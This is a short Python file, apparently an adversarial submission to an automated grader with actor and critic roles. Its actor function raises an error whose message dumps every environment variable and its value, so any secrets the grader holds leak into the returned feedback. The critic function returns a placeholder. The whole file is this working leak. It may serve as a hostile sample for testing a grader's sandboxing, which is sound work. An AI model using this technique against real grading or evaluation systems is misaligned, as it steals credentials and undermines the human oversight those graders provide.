"""Attack: show the grader's environment variables in the feedback."""
import os


def actor_role():
    raise RuntimeError("ENV " + " ".join(f"{k}={v}" for k, v in os.environ.items()))


def critic_role():
    return "z"
